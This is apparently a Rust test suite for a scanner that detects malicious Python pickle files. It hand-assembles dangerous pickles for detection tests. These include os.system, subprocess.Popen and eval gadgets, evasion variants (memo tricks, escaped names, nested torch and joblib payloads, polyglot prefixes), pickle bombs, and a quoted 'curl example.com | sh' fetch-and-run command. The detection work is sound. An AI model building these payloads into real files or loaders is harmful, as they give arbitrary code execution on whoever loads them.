//! Pickles assembled by hand, none of which is ever loaded by Python.

use proptest::prelude::*;

use crate::scan::{self, FileReport, Format, Limits, PickleClass, Verdict};

fn scan(bytes: &[u8]) -> FileReport {
    scan::file(&bytes, "a", &Limits::default())
}

fn ids(report: &FileReport) -> Vec<&'static str> {
    let mut ids: Vec<_> = report.findings.iter().map(|finding| finding.rule.id).collect();
    ids.dedup();
    ids
}

/// A text of protocol 4.
fn text(text: &str) -> Vec<u8> {
    [&[0x8c, text.len() as u8], text.as_bytes()].concat()
}

fn named(module: &str, name: &str) -> Vec<u8> {
    [text(module), text(name), vec![0x93]].concat()
}

fn pickle(parts: &[&[u8]]) -> Vec<u8> {
    [&[&b"\x80\x04"[..]], parts, &[&b"."[..]]].concat().concat()
}

#[test]
fn calls_of_dangerous_globals_are_shown() {
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("GLOBAL", b"cos\nsystem\n(S'id'\ntR.".to_vec()),
        ("GLOBAL of protocol 2", b"\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.".to_vec()),
        ("INST", b"(S'id'\nios\nsystem\n.".to_vec()),
        ("OBJ", b"(cos\nsystem\nS'id'\no.".to_vec()),
        ("STACK_GLOBAL", pickle(&[&named("os", "system"), &text("id"), b"\x85R"])),
        (
            "names through the memo",
            pickle(&[&text("os"), b"\x94", &text("system"), b"\x940h\x00h\x01\x93", &text("id"), b"\x85R"]),
        ),
        ("an escaped name", b"Vo\\u0073\nVsyste\\u006d\n\x93S'id'\n\x85R.".to_vec()),
        ("mixed kinds of text", b"S'o\\x73'\nU\x06system\x93X\x02\x00\x00\x00id\x85R.".to_vec()),
        (
            "MEMOIZE counts entries of PUT",
            pickle(&[
                &text("x"),
                b"p5\n0",
                &text("os"),
                b"\x940",
                &text("system"),
                b"\x940h\x01h\x02\x93",
                &text("id"),
                b"\x85R",
            ]),
        ),
        (
            "an entry stored anew",
            pickle(&[
                &text("math"),
                b"q\x000",
                &text("os"),
                b"q\x000h\x00",
                &text("system"),
                b"\x93",
                &text("id"),
                b"\x85R",
            ]),
        ),
        ("a dotted name", pickle(&[&named("torch", "os.system"), &text("id"), b"\x85R"])),
        ("Python 2", b"c__builtin__\neval\n(S'id'\ntR.".to_vec()),
        ("error after it", b"cos\nsystem\n(S'id'\ntR\xff\xff\xff".to_vec()),
        ("cut off after it", b"\x80\x04cos\nsystem\n(S'id'\ntRX\xff\xff\xff\x7fa".to_vec()),
        ("empty stack before it", pickle(&[b"00R", &named("os", "system"), &text("id"), b"\x85R"])),
        ("bad memo index before it", pickle(&[b"h\x09", &named("os", "system"), &text("id"), b"\x85R"])),
        (
            "a frame that lies",
            pickle(&[b"\x95\xff\xff\xff\xff\xff\xff\xff\x7f", &named("os", "system"), &text("id"), b"\x85R"]),
        ),
        ("the second of two", b"N.cos\nsystem\n(S'id'\ntR.".to_vec()),
        (
            "the second after garbage",
            [&b"\x80\x02K\x01.garbage"[..], b"\xf3\xf4", b"\x80\x02cos\nsystem\n(S'id'\ntR."].concat(),
        ),
        ("in a list", b"(lp0\ncos\nsystem\n(S'id'\ntRa.".to_vec()),
        ("only named", b"\x80\x02cos\nsystem\n.".to_vec()),
        ("in a partial", pickle(&[&named("functools", "partial"), &named("os", "system"), &text("id"), b"\x86R"])),
        ("NEWOBJ", pickle(&[&named("subprocess", "Popen"), &text("id"), b"\x85\x81"])),
        ("NEWOBJ_EX", pickle(&[&named("subprocess", "Popen"), &text("id"), b"\x85}\x92"])),
        ("reconstructor", b"ccopy_reg\n_reconstructor\n(csubprocess\nPopen\nc__builtin__\nobject\nNtR.".to_vec()),
        ("BUILD on what it gave", pickle(&[&named("os", "system"), b")R}", b"b"])),
        (
            "getattr of a module",
            pickle(&[&named("builtins", "getattr"), &named("torch", "hub"), &text("load"), b"\x86R"]),
        ),
        (
            "inner getattr",
            pickle(&[&named("builtins", "getattr"), &named("collections", "OrderedDict"), &text("__init__"), b"\x86R"]),
        ),
        ("no header", [named("os", "system"), text("id"), b"\x85R.".to_vec()].concat()),
    ];
    for (name, bytes) in cases {
        let report = scan(&bytes);
        assert_eq!(report.verdict, Verdict::Dangerous, "{name}: {report:#?}");
        assert_eq!(report.pickle, Some(PickleClass::Dangerous), "{name}");
    }
    let report = scan(b"cos\nsystem\n(S'curl example.com | sh'\ntR.");
    assert_eq!(report.findings[0].message, "calls `os.system('curl example.com | sh')`, which runs a shell command");
    assert_eq!(report.findings[0].offset, Some(38));
    assert_eq!(report.format, Format::Pickle);
}

#[test]
fn what_is_not_known_is_suspicious() {
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        ("unknown", b"\x80\x02cmodule_of_mine\nThing\n)R.".to_vec(), "pickle-unknown-global"),
        ("only named", b"\x80\x02cmodule_of_mine\nThing\n.".to_vec(), "pickle-unknown-global"),
        ("extension", b"\x80\x02\x82\x07)R.".to_vec(), "pickle-extension"),
        ("persistent id", b"\x80\x02K\x01Q.".to_vec(), "pickle-persistent-id"),
        ("persistent id of protocol 0", b"\x80\x02Pabc\n.".to_vec(), "pickle-persistent-id"),
        (
            "BUILD on a class",
            b"\x80\x02ccollections\nOrderedDict\n}U\x01aK\x01sb.".to_vec(),
            "pickle-changes-behaviour",
        ),
        ("items of a class", b"\x80\x02ccollections\nOrderedDict\nU\x01aK\x01s.".to_vec(), "pickle-changes-behaviour"),
        (
            "a method in the state",
            b"\x80\x02ccollections\nOrderedDict\n)R}U\x06appendc__builtin__\nlen\nsb.".to_vec(),
            "pickle-changes-behaviour",
        ),
        ("calls a result", b"\x80\x02ccollections\nOrderedDict\n)R)R.".to_vec(), "pickle-unknown-global"),
        ("computed name", b"\x80\x02c__builtin__\nstr\nU\x02os\x85RU\x06system\x93.".to_vec(), "pickle-unknown-global"),
        ("memo far away", b"\x80\x02K\x01r\xff\xff\xff\xff.".to_vec(), "pickle-bomb"),
        (
            "type with three arguments",
            b"\x80\x02c_codecs\nencode\nU\x01aU\x07unicorn\x86R.".to_vec(),
            "pickle-unknown-global",
        ),
    ];
    for (name, bytes, id) in cases {
        let report = scan(&bytes);
        assert_eq!(report.verdict, Verdict::Suspicious, "{name}: {report:#?}");
        assert!(ids(&report).contains(&id), "{name}: {report:#?}");
    }
}

#[test]
fn lists_that_hold_each_other_are_a_bomb() {
    let mut bytes = b"\x80\x02]q\x00U\x03lola".to_vec();
    for level in 0..60_u8 {
        bytes.extend([b']', b'q', level + 1, b'(', b'h', level, b'h', level, b'e']);
    }
    bytes.push(b'.');
    assert_eq!(ids(&scan(&bytes)), ["pickle-bomb"]);
    let mut tuples = b"\x80\x02K\x01q\x00".to_vec();
    for level in 0..60_u8 {
        tuples.extend([b'h', level, 0x86, b'q', level + 1]);
    }
    tuples.push(b'.');
    assert_eq!(ids(&scan(&tuples)), ["pickle-bomb"]);
}

#[test]
fn what_frameworks_write_is_clean() {
    let cases: Vec<(&str, Vec<u8>, PickleClass)> = vec![
        ("data", b"\x80\x04\x95\x0b\x00\x00\x00\x00\x00\x00\x00}\x94\x8c\x01a\x94]\x94K\x01as.".to_vec(), PickleClass::DataOnly),
        ("protocol 0", b"(dp0\nVa\np1\n(lp2\nI1\naI01\naL5L\naF1.5\nas.".to_vec(), PickleClass::DataOnly),
        ("words", b"\x80\x02U\x09os.system.".to_vec(), PickleClass::DataOnly),
        ("ordered", b"\x80\x02ccollections\nOrderedDict\nq\x00)Rq\x01(U\x01aK\x01U\x01bK\x02u}U\x09_metadataq\x02}sb.".to_vec(), PickleClass::AllowListed),
        (
            "array",
            b"\x80\x02cnumpy.core.multiarray\n_reconstruct\n(cnumpy\nndarray\nK\x00\x85U\x01btR(K\x01K\x02\x85cnumpy\ndtype\n(U\x02i8K\x00K\x01tR(K\x03U\x01<NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb\x89U\x10aaaaaaaabbbbbbbbtb.".to_vec(),
            PickleClass::AllowListed,
        ),
        ("reconstructed", b"ccopy_reg\n_reconstructor\n(ccollections\nOrderedDict\nc__builtin__\nobject\nNtR.".to_vec(), PickleClass::AllowListed),
        ("two", b"\x80\x02N.\x80\x02K\x01.".to_vec(), PickleClass::DataOnly),
    ];
    for (name, bytes, class) in cases {
        let report = scan(&bytes);
        assert_eq!(report.verdict, Verdict::Clean, "{name}: {report:#?}");
        assert_eq!(report.pickle, Some(class), "{name}");
    }
}

#[test]
fn a_partial_is_called_as_its_function() {
    let partial = |function: &[u8]| {
        [b"\x80\x04", &named("functools", "partial")[..], function, b"\x85R(", function, b")}Ntb"].concat()
    };
    let known = [partial(&named("collections", "OrderedDict")), b")R.".to_vec()].concat();
    assert_eq!(scan(&known).verdict, Verdict::Clean, "{:#?}", scan(&known));
    assert!(scan(&known).globals.iter().all(|global| !global.name.contains('\n')));
    let unknown = [partial(&named("mine", "thing")), b".".to_vec()].concat();
    assert_eq!(scan(&unknown).verdict, Verdict::Suspicious);
    let other = pickle(&[
        &named("functools", "partial"),
        &named("collections", "OrderedDict"),
        b"\x85R(",
        &named("builtins", "len"),
        b")}Ntb",
    ]);
    assert_eq!(ids(&scan(&other)), ["pickle-changes-behaviour"]);
}

#[test]
fn pickles_within_constants_are_run() {
    let inner = b"\x80\x02cos\nsystem\nU\x02id\x85R.";
    let constant = [&[b'B', inner.len() as u8, 0, 0, 0], &inner[..]].concat();
    let loaded = pickle(&[&named("torch.storage", "_load_from_bytes"), &constant, b"\x85R"]);
    let report = scan(&loaded);
    assert_eq!(report.verdict, Verdict::Dangerous, "{report:#?}");
    assert_eq!(report.findings[0].inner_path.as_deref(), Some("bytes@41"));
    assert_eq!(report.findings[0].offset, Some(18));
    // As protocol 2 holds bytes.
    let text: String = inner.iter().map(|byte| char::from(*byte)).collect();
    let encoded = [
        &b"\x80\x02ctorch.storage\n_load_from_bytes\nc_codecs\nencode\nX"[..],
        &(text.len() as u32).to_le_bytes(),
        text.as_bytes(),
        b"X\x06\x00\x00\x00latin1\x86R\x85R.",
    ];
    assert_eq!(scan(&encoded.concat()).verdict, Verdict::Dangerous);
    let held = pickle(&[&constant]);
    assert_eq!(ids(&scan(&held)), ["pickle-dangerous-global", "pickle-embedded"]);
}

#[test]
fn storages_of_torch_are_told_where_they_are_expected() {
    let mut bytes =
        b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\n((U\x07storagectorch\nFloatStorage\nU\x010U\x03cpuK\x06tQ"
            .to_vec();
    bytes.extend(b"K\x00K\x02K\x03\x86K\x03K\x01\x86\x89ccollections\nOrderedDict\n)RtR.raw bytes");
    let limits = Limits::default();
    let mut context = scan::Context::new("a", 0, &limits);
    let options = super::Options { is_torch: true, is_one: true, ..super::Options::default() };
    let summary = super::run(&bytes, 0, &options, &mut context);
    assert_eq!(context.finish().findings, []);
    assert_eq!((summary.end, summary.ending), (bytes.len() as u64 - 9, super::Ending::Stop));
    assert_eq!((summary.pickles, summary.protocol, summary.class), (1, 2, PickleClass::AllowListed));
    let keys: Vec<_> = summary.storages.iter().map(|s| (s.key.as_str(), s.class.as_str(), s.count)).collect();
    assert_eq!(keys, [("0", "FloatStorage", 6)]);
}

#[test]
fn what_follows_a_pickle_is_told_unless_it_is_padding() {
    assert_eq!(scan(b"\x80\x02N.\x00\x00\x00\n").verdict, Verdict::Clean);
    assert_eq!(ids(&scan(b"\x80\x02N.and more text")), ["pickle-trailing-bytes"]);
    assert_eq!(ids(&scan(b"\x80\x02N")), ["pickle-malformed"]);
    assert_eq!(ids(&scan(b"\x80\x05\x97.")), ["pickle-out-of-band"]);
}

/// A wrapper of joblib for an array of a type and a shape.
fn wrapper(dtype: &[u8], aligned: bool) -> Vec<u8> {
    let flags = if dtype.starts_with(b"O") { 0x3f } else { 0 };
    let state = [&b"(K\x03X\x01\x00\x00\x00|NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK"[..], &[flags], b"t"].concat();
    wrapper_with(dtype, &state, aligned)
}

/// The same, where the type is given a state.
fn wrapper_with(dtype: &[u8], state: &[u8], aligned: bool) -> Vec<u8> {
    let mut out = b"\x80\x03cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(".to_vec();
    out.extend(b"X\x08\x00\x00\x00subclasscnumpy\nndarray\nX\x05\x00\x00\x00shapeK\x02K\x03\x86");
    out.extend(b"X\x05\x00\x00\x00dtypecnumpy\ndtype\nX\x02\x00\x00\x00");
    out.extend(dtype);
    out.extend([&b"K\x00K\x01\x87R"[..], state, b"b"].concat());
    if aligned {
        out.extend(b"X\x1b\x00\x00\x00numpy_array_alignment_bytesK\x10");
    }
    out.extend(b"ub");
    out
}

#[test]
fn arrays_of_joblib_are_passed_over() {
    let data = [0xff_u8; 48];
    let plain = [wrapper(b"f8", false), data.to_vec(), b".".to_vec()].concat();
    let aligned = [wrapper(b"f8", true), vec![3, 0xff, 0xff, 0xff], data.to_vec(), b".".to_vec()].concat();
    let objects = [wrapper(b"O8", false), b"\x80\x02]K\x01a.".to_vec(), b".".to_vec()].concat();
    for bytes in [plain, aligned, objects] {
        let report = scan(&bytes);
        assert_eq!((report.verdict, report.format), (Verdict::Clean, Format::Joblib), "{report:#?}");
    }
    let hidden = [wrapper(b"O8", false), b"cos\nsystem\n(S'id'\ntR.".to_vec(), b".".to_vec()].concat();
    assert_eq!(scan(&hidden).verdict, Verdict::Dangerous);
    let cut = [wrapper(b"f8", false), vec![0xff; 47]].concat();
    assert_eq!(scan(&cut).verdict, Verdict::Malformed);
    let mut opcodes = b"cos\nsystem\n(S'id'\ntR.".to_vec();
    opcodes.resize(48, 0);
    let late = [&b"N0".repeat(13)[..], b"cos\nsystem\n(S'id'\ntR."].concat();
    let written = b"I1_0\n0cos\nsystem\n(S'id'\ntR.".to_vec();
    for mut opcodes in [opcodes, late, written, b"N0".repeat(24)] {
        opcodes.resize(48, 0);
        let two = [wrapper(b"f8", false), opcodes, b".".to_vec()].concat();
        assert_eq!(scan(&two).verdict, Verdict::Suspicious, "{:#?}", scan(&two));
    }
}

#[test]
fn a_state_of_a_type_that_denies_its_name_is_malformed() {
    let state = |version: u8, size: i32, flags: u8| {
        let size = size.to_le_bytes();
        [&[b'(', b'K', version][..], b"X\x01\x00\x00\x00|NNNJ", &size, b"J\xff\xff\xff\xffK", &[flags], b"t"].concat()
    };
    for (name, state, expected) in [
        (&b"f8"[..], state(3, -1, 0), Verdict::Clean),
        (b"V8", state(3, 8, 0), Verdict::Clean),
        // Objects that the name has not, a size of its own, flags that numpy works out from the fields, none at all.
        (b"f8", state(3, -1, 1), Verdict::Malformed),
        (b"V8", state(3, 4, 0), Verdict::Malformed),
        (b"O8", state(3, -1, 0), Verdict::Malformed),
        (b"V8", state(2, 8, 0), Verdict::Malformed),
        (b"f8", b")".to_vec(), Verdict::Malformed),
    ] {
        let bytes = [wrapper_with(name, &state, false), vec![0xff; 48], b".".to_vec()].concat();
        assert_eq!(scan(&bytes).verdict, expected, "{name:?} {state:?}: {:#?}", scan(&bytes));
    }
    let objects = [wrapper_with(b"V8", &state(3, 8, 1), false), b"cos\nsystem\n(S'id'\ntR..".to_vec()].concat();
    assert_eq!(scan(&objects).verdict, Verdict::Dangerous);
}

#[test]
fn pickles_of_lines_are_known_by_all_that_python_takes_for_a_number() {
    let gadget = b"cos\nsystem\n(S'id'\ntR.";
    let long = [b"I0x", &b"0".repeat(5000)[..], b"1\n0"].concat();
    // The beginning of a table of CatBoost: bytes that are 66 long.
    let table = [&b"CBM1"[..], &[0; 64], b"0I1_0\n0"].concat();
    let begins: &[&[u8]] = &[
        b"I1_0\n0",
        b"I0o7\n0",
        b"I\t1 \n0",
        b"I1\x00\xff\n0",
        b"L1_0L\n0",
        b"Finfinity\n0",
        b"F-NaN\n0",
        b"F1_0.5e3\n0",
        b"Np1_0\n0",
        b"Np10\ng1_0\n00",
        &long,
        b"GIF89a\x01\x00\x000I1_0\n0",
        &table,
    ];
    for begin in begins {
        let bytes = [*begin, gadget].concat();
        let report = scan(&bytes);
        assert_eq!((report.format, report.verdict), (Format::Pickle, Verdict::Dangerous), "{begin:?}: {report:#?}");
    }
    let memo = b"I1_0\n0\x8c\x05posixp0\n0\x8c\x06systemp1\n0\x8c\x01 0\x8c\x01 0g0\ng1\n\x93\x8c\x02id\x85R.";
    assert_eq!(scan(memo).verdict, Verdict::Dangerous);
}

#[test]
fn constants_that_talk_of_pickles_are_none() {
    let text = b"How such a file looks:\ncos\nsystem\n(S'ls'\ntR.\nand nothing runs it";
    for begin in [&b""[..], b"\x80\x02N.", b"x\x9c", b"cat (\n", b"\x1f\x8b\x08", b"PK\x03\x04", b"(1)\n", b"BZh91A"] {
        let constant = [begin, text].concat();
        let bytes = [&b"\x80\x03C"[..], &[constant.len() as u8], &constant, b"."].concat();
        assert!(scan(&bytes).verdict < Verdict::Suspicious, "{begin:?}: {:#?}", scan(&bytes));
    }
}

#[test]
fn other_bytes_are_no_pickles() {
    let texts: &[&[u8]] = &[
        b"import os\nimport sys\n",
        b"cat\ndog\nelephant\n",
        b"car\nbus\ntruck\nperson\n",
        b"{\"a\": 1}",
        b"[1, 2]",
        b"I am a text.\nIt has lines.\n",
        b"N.B. this is a text",
        b"(1). The first thing",
        b"(c) Copyright 2020 by us\nAll rights reserved\nin all lands\n",
        b"I1 2\nI2 3\n",
        b"Family\nRelation\n",
        b"in-house\nco-op\nResult\n",
        b"class Foo:\n    pass\n",
        b"\x89PNG\r\n\x1a\n\0\0\0",
        b"GIF89a\x01\x00",
        b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff",
        b"#include <stdio.h>\n",
        b"package main\n",
        b"PK\x03\x04",
        b"",
        b".",
    ];
    for bytes in texts {
        assert!(!super::claims(bytes, bytes), "{:?}", String::from_utf8_lossy(bytes));
        let limits = Limits::default();
        let mut context = scan::Context::new("a", 0, &limits);
        super::search(bytes, &mut context);
        assert_eq!(context.finish().findings, [], "{:?}", String::from_utf8_lossy(bytes));
    }
}

#[test]
fn pickles_in_other_bytes_are_found() {
    let before = vec![b'x'; 70_000];
    for payload in [
        &b"\x80\x02cos\nsystem\nU\x02id\x85R."[..],
        b"cos\nsystem\n(S'id'\ntR.",
        b"(S'id'\nios\nsystem\n.",
        b"\x8c\x02os\x94\x8c\x06system\x94\x93\x8c\x02id\x85R.",
        b"\x80\x02cmine\nThing\n)R.",
    ] {
        for cut in [0, 65_530, 70_000] {
            let bytes = [&before[..cut], b" ", payload, &before].concat();
            let limits = Limits::default();
            let mut context = scan::Context::new("a", 0, &limits);
            super::search(&bytes, &mut context);
            let report = context.finish();
            assert!(report.verdict >= Verdict::Suspicious, "{payload:?} at {cut}");
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]
    #[test]
    fn any_bytes_end(bytes in proptest::collection::vec(any::<u8>(), 0..400)) {
        scan(&bytes);
        scan(&[&b"\x80\x04"[..], &bytes].concat());
    }

    #[test]
    fn any_opcodes_end(places in proptest::collection::vec((0_usize..68, any::<u8>()), 0..200)) {
        let all: Vec<u8> = (0..=255).filter(|byte| super::opcode::argument(*byte).is_some()).collect();
        let mut bytes = b"\x80\x02ccollections\nOrderedDict\nq\x00".to_vec();
        for (place, byte) in places {
            bytes.push(all[place % all.len()]);
            match super::opcode::argument(all[place % all.len()]) {
                Some(super::opcode::Argument::Line) => bytes.extend([b'0' + byte % 10, b'\n']),
                Some(super::opcode::Argument::Lines) => bytes.extend(b"os\nsystem\n"),
                Some(super::opcode::Argument::Fixed(count)) => bytes.extend((0..count).map(|at| if at == 0 { byte } else { 0 })),
                Some(super::opcode::Argument::Counted(width)) => {
                    bytes.extend((0..width).map(|at| u8::from(at == 0)));
                    bytes.push(byte);
                }
                Some(super::opcode::Argument::Signed) => bytes.extend([1, 0, 0, 0, byte]),
                _ => {}
            }
        }
        bytes.push(b'.');
        scan(&bytes);
    }
}
